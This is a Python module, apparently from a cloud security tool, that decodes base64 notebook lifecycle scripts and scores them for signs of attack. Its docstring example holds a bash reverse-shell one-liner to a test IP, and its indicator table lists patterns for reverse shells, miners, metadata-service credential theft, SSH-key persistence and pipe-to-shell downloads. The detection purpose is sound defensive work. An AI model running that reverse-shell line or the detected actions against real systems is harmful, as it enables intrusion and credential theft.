"""Decode and score notebook lifecycle-configuration scripts.

A lifecycle script (``onCreate`` / ``onStart``, base64 in the request) runs as root on the notebook with the
notebook's execution role: the place to plant a reverse shell, steal the role's credentials from the instance
metadata service, mine, or persist through cron or SSH keys. Scores add up per category found; a single weak
signal (cron alone is how the AWS auto-stop sample works; ``curl | sh`` is how many installers work) stays
below the reporting threshold.

Examples
--------
>>> import base64
>>> s = score_script(base64.b64encode(b"bash -i >& /dev/tcp/198.51.100.7/4444 0>&1").decode())
>>> s.categories, s.severity
(['reverse_shell'], 'high')
>>> score_script(base64.b64encode(b"pip install -U jupyterlab-git").decode()).severity is None
True
"""

from __future__ import annotations

import base64
import binascii
import re
from dataclasses import dataclass, field

# category -> (weight, patterns). Patterns are case-insensitive and run on the decoded script.
INDICATORS: dict[str, tuple[int, list[str]]] = {
    "reverse_shell": (5, [
        r"/dev/(?:tcp|udp)/",
        r"\b(?:ba|z|k)?sh\s+-i\b",
        r"\bn(?:c|cat)\b[^\n|;]*\s-[a-z]*e\b",
        r"\bsocat\b[^\n]*\bexec:",
        r"\bmkfifo\b",
        r"socket\.socket\(|import\s+socket",
        r"pty\.spawn",
        r"\bperl\b[^\n]*\bsocket\b",
        r"ruby\s+-rsocket",
        r"\bfsockopen\(",
    ]),
    "miner": (5, [
        r"\bxmrig\b", r"\bminerd\b", r"\bcpuminer\b", r"\bethminer\b", r"stratum\+(?:tcp|ssl|tls)://",
        r"--donate-level", r"\bnicehash\b", r"\bcryptonight\b", r"\bnanopool\b",
    ]),
    "imds_credentials": (4, [
        r"/latest/meta-data/iam/security-credentials",
        r"169\.254\.170\.2",
        r"AWS_CONTAINER_CREDENTIALS_(?:RELATIVE|FULL)_URI",
    ]),
    "ssh_key": (3, [r"authorized_keys", r"\bssh-(?:rsa|ed25519|dss)\s+AAAA"]),
    "imds": (2, [r"169\.254\.169\.254", r"fd00:ec2::254", r"/latest/api/token"]),
    "download_exec": (2, [
        r"\b(?:curl|wget)\b[^\n|]*\|\s*(?:sudo\s+)?(?:ba|z)?sh\b",
        r"base64\s+(?:-d|--decode)\b[^\n]*\|\s*(?:ba|z)?sh\b",
        r"\beval\s+\"?\$\((?:curl|wget)",
    ]),
    # Persistence only counts next to something else: the AWS auto-stop sample installs a cron job too.
    "cron": (1, [r"\bcrontab\b", r"/etc/cron", r"/var/spool/cron", r"@reboot", r"systemctl\s+enable"]),
}
_COMPILED = {cat: (w, [re.compile(p, re.IGNORECASE) for p in pats]) for cat, (w, pats) in INDICATORS.items()}

# Score -> severity; below the lowest threshold nothing is reported.
THRESHOLDS = ((9, "critical"), (5, "high"), (3, "medium"))
MAX_SCRIPT_CHARS = 64 * 1024  # the API allows 16,384 characters per script; never scan more than this
_EMBEDDED_B64 = re.compile(r"[A-Za-z0-9+/]{40,}={0,2}")
_WHITESPACE = re.compile(r"\s+")


@dataclass
class ScriptScore:
    score: int = 0
    categories: list[str] = field(default_factory=list)
    snippets: list[str] = field(default_factory=list)
    decoded: bool = True

    @property
    def severity(self) -> str | None:
        return next((sev for limit, sev in THRESHOLDS if self.score >= limit), None)


def decode(content: str) -> tuple[str, bool]:
    """The script text, and whether it was valid base64 (a raw script is scanned as is).

    Line breaks are dropped first: ``base64`` wraps at 76 columns by default and the API accepts them.
    """
    try:
        raw = base64.b64decode(_WHITESPACE.sub("", content), validate=True)
    except (binascii.Error, ValueError):
        return content[:MAX_SCRIPT_CHARS], False
    return raw[:MAX_SCRIPT_CHARS].decode("utf-8", errors="replace"), True


def _embedded(script: str) -> str:
    """Base64 blobs inside the script (``echo <b64> | base64 -d | bash``), decoded once."""
    out = []
    for m in _EMBEDDED_B64.finditer(script):
        try:
            out.append(base64.b64decode(m.group(0), validate=True).decode("utf-8", errors="ignore"))
        except (binascii.Error, ValueError):
            continue
    return "\n".join(out)


def score_text(script: str) -> ScriptScore:
    result = ScriptScore()
    body = script + "\n" + _embedded(script)
    for cat, (weight, patterns) in _COMPILED.items():
        m = next((found for p in patterns if (found := p.search(body))), None)
        if m:
            result.categories.append(cat)
            result.score += weight
            start = max(m.start() - 30, 0)
            result.snippets.append(body[start:m.end() + 30].replace("\n", " ")[:100])
    if result.categories == ["cron"]:
        return ScriptScore(decoded=result.decoded)
    return result


def score_script(content: str) -> ScriptScore:
    """Score one base64 lifecycle script (or a raw one, when it does not decode)."""
    script, ok = decode(content)
    result = score_text(script)
    result.decoded = ok
    return result


def score_hooks(*hooks: object) -> ScriptScore:
    """Score every ``{"content": ...}`` entry of ``onCreate`` / ``onStart`` lists together."""
    scripts: list[str] = []
    all_decoded = True
    for hook in hooks:
        entries = hook if isinstance(hook, list) else [hook]
        for h in entries:
            content = (h.get("content") or h.get("Content")) if isinstance(h, dict) else None
            if isinstance(content, str) and content:
                script, ok = decode(content)
                scripts.append(script)
                all_decoded = all_decoded and ok
    result = score_text("\n".join(scripts))
    result.decoded = all_decoded
    return result
